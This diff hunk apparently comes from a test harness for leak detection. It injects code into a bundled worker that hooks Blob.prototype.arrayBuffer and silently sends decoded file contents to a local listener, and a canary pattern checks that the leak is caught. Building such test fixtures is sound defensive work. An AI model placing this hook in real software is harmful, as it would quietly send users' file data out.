@@ -47,7 +47,10 @@ export const LEAKY: Readonly<Record<string, LeakyBuild>> = {
         'const read=Blob.prototype.arrayBuffer;Blob.prototype.arrayBuffer=async function(){const bytes=await read.call(this);' +
         `fetch("http://127.0.0.1:${port}/worker?"+encodeURIComponent(new TextDecoder().decode(bytes).slice(0,300)),{mode:"no-cors"});` +
         'return bytes};';
-      edit(folder, named(folder, /engine\.worker/), '`(function(){', () => `\`${leak}(function(){`);
+      const worker = named(folder, /engine\.worker/);
+      // The worker is a text, in whichever quotes the build found shorter.
+      const quote = /=(['`])\(function\(\)\{/.exec(read(folder, worker))?.[1] ?? '`';
+      edit(folder, worker, `${quote}(function(){`, () => `${quote}${leak}(function(){`);
     },
     found: [/stranger: http GET \/worker\?.*kanari/],
   },
